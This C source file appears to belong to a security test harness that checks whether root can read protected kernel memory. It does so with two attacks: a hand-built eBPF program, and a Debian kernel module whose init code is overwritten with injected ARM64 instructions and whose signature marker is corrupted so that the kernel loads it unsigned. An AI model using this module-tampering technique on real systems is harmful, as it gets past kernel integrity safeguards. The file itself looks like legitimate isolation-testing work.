/* Attacks in which Linux's kernel runs root's code: an eBPF program, and a module.
 *
 * The module is one of Debian's with another beginning: root needs no compiler, and a kernel that does not insist on
 * signatures takes it. */
#include "attack.h"

#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define VICTIM "/lib/victim.ko" /* put there by worlds/trustzone/linux.py, unchanged */
#define SIGNATURE "~Module signature appended~\n"

/* What either code answers with. A module's answer is an error number, since it must not stay. */
enum { CANARY_SEEN = EDOM, OTHER_SEEN = ERANGE, NOT_READ = EFAULT };

static struct report answered(int answer) {
    if (answer == CANARY_SEEN || answer == OTHER_SEEN)
        return got(answer == CANARY_SEEN ? CANARY : 1);
    errno = answer;
    return refused();
}

#define INSN(op, to, from, jump, value) {.code = (op), .dst_reg = (to), .src_reg = (from), .off = (jump), .imm = (int32_t)(value)}
#define CONSTANT(to, value) INSN(BPF_LD | BPF_DW | BPF_IMM, to, 0, 0, value), INSN(0, 0, 0, 0, (uint64_t)(value) >> 32)

/* bpf_probe_read_kernel of one word, in a program that is run once. */
struct report by_bpf(const struct target *t) {
    uint64_t address, offset;
    if (!kernel_view(t->frame, &address, &offset))
        return refused();
    const struct bpf_insn program[] = {
        INSN(BPF_ST | BPF_MEM | BPF_DW, 10, 0, -8, 0),
        INSN(BPF_ALU64 | BPF_MOV | BPF_X, 1, 10, 0, 0),
        INSN(BPF_ALU64 | BPF_ADD | BPF_K, 1, 0, 0, -8),
        INSN(BPF_ALU64 | BPF_MOV | BPF_K, 2, 0, 0, 8),
        CONSTANT(3, address + 8),
        INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_probe_read_kernel),
        INSN(BPF_LDX | BPF_MEM | BPF_DW, 1, 10, -8, 0),
        CONSTANT(2, CANARY),
        INSN(BPF_ALU64 | BPF_MOV | BPF_X, 3, 0, 0, 0),
        INSN(BPF_ALU64 | BPF_MOV | BPF_K, 0, 0, 0, CANARY_SEEN),
        INSN(BPF_JMP | BPF_JEQ | BPF_X, 1, 2, 3, 0),
        INSN(BPF_ALU64 | BPF_MOV | BPF_K, 0, 0, 0, OTHER_SEEN),
        INSN(BPF_JMP | BPF_JEQ | BPF_K, 3, 0, 1, 0),
        INSN(BPF_ALU64 | BPF_MOV | BPF_K, 0, 0, 0, NOT_READ),
        INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
    };
    union bpf_attr load = {.prog_type = BPF_PROG_TYPE_RAW_TRACEPOINT, .insns = (uint64_t)(uintptr_t)program};
    load.insn_cnt = sizeof(program) / sizeof(*program);
    load.license = (uint64_t)(uintptr_t) "GPL";
    union bpf_attr run = {.test = {.prog_fd = (uint32_t)syscall(SYS_bpf, BPF_PROG_LOAD, &load, sizeof(load))}};
    if ((int)run.test.prog_fd < 0 || syscall(SYS_bpf, BPF_PROG_TEST_RUN, &run, sizeof(run)))
        return refused();
    return answered((int)run.test.retval);
}

/* The module's new beginning. Its address is filled in. */
extern const uint8_t module_code[], module_target[], module_end[];
__asm__(".pushsection .rodata\n"
        ".balign 8\n"
        ".global module_code, module_target, module_end\n"
        "module_code:\n"
        "  ldr x1, module_target\n"
        "  ldr x1, [x1]\n"
        "  ldr x2, 1f\n"
        "  mov x0, #-34\n" /* OTHER_SEEN */
        "  cmp x1, x2\n"
        "  b.ne 2f\n"
        "  mov x0, #-33\n" /* CANARY_SEEN */
        "2: ret\n"
        ".balign 8\n"
        "1: .quad 0xca4a27f00d5ec7e7\n"
        "module_target: .quad 0\n"
        "module_end:\n"
        ".popsection\n");
_Static_assert(CANARY_SEEN == 33 && OTHER_SEEN == 34, "module_code");

static Elf64_Shdr *section(uint8_t *image, const char *name) {
    const Elf64_Ehdr *head = (const Elf64_Ehdr *)image;
    Elf64_Shdr *all = (Elf64_Shdr *)(image + head->e_shoff);
    for (int i = 0; i < head->e_shnum; i++)
        if (strcmp((const char *)image + all[head->e_shstrndx].sh_offset + all[i].sh_name, name) == 0)
            return &all[i];
    return NULL;
}

static uint8_t *beginning(uint8_t *image) {
    const Elf64_Shdr *symbols = section(image, ".symtab"), *names = section(image, ".strtab"), *text = section(image, ".init.text");
    for (uint64_t i = 0; symbols && names && text && i < symbols->sh_size / sizeof(Elf64_Sym); i++) {
        const Elf64_Sym *one = (const Elf64_Sym *)(image + symbols->sh_offset) + i;
        const uint64_t room = text->sh_size - one->st_value;
        if (strcmp((const char *)image + names->sh_offset + one->st_name, "init_module") == 0 && room >= (uint64_t)(module_end - module_code))
            return image + text->sh_offset + one->st_value;
    }
    return NULL;
}

struct report by_module(const struct target *t) {
    static const char *const no_more[] = {".rela.init.text", ".altinstructions", ".rela.altinstructions",
                                          "__patchable_function_entries", ".rela__patchable_function_entries"};
    static uint8_t image[1 << 18];
    uint64_t address, offset;
    const int file = open(VICTIM, O_RDONLY);
    ssize_t size = file < 0 ? -1 : read(file, image, sizeof(image));
    if (size <= (ssize_t)sizeof(SIGNATURE) || size == sizeof(image) || !kernel_view(t->frame, &address, &offset))
        return refused();
    uint8_t *code = beginning(image);
    if (!code)
        return refused();
    address += 8;
    memcpy(code, module_code, (size_t)(module_end - module_code));
    memcpy(code + (module_target - module_code), &address, sizeof(address));
    for (unsigned i = 0; i < sizeof(no_more) / sizeof(*no_more); i++) { /* what would change our code, or Debian's that it was */
        Elf64_Shdr *one = section(image, no_more[i]);
        if (one)
            one->sh_size = 0;
    }
    Elf64_Shdr *self = section(image, ".gnu.linkonce.this_module");
    if (self) /* a loader that died leaves its module's name taken; the name lies behind a state and two pointers */
        snprintf((char *)image + self->sh_offset + 24, 8, "m%d", getpid());
    if (memcmp(image + size - (sizeof(SIGNATURE) - 1), SIGNATURE, sizeof(SIGNATURE) - 1) == 0)
        image[size - 1] = 0; /* a wrong signature is refused, none is not */
    if (syscall(SYS_init_module, image, size, "") == 0)
        return got(1); /* it never stays */
    return answered(errno);
}
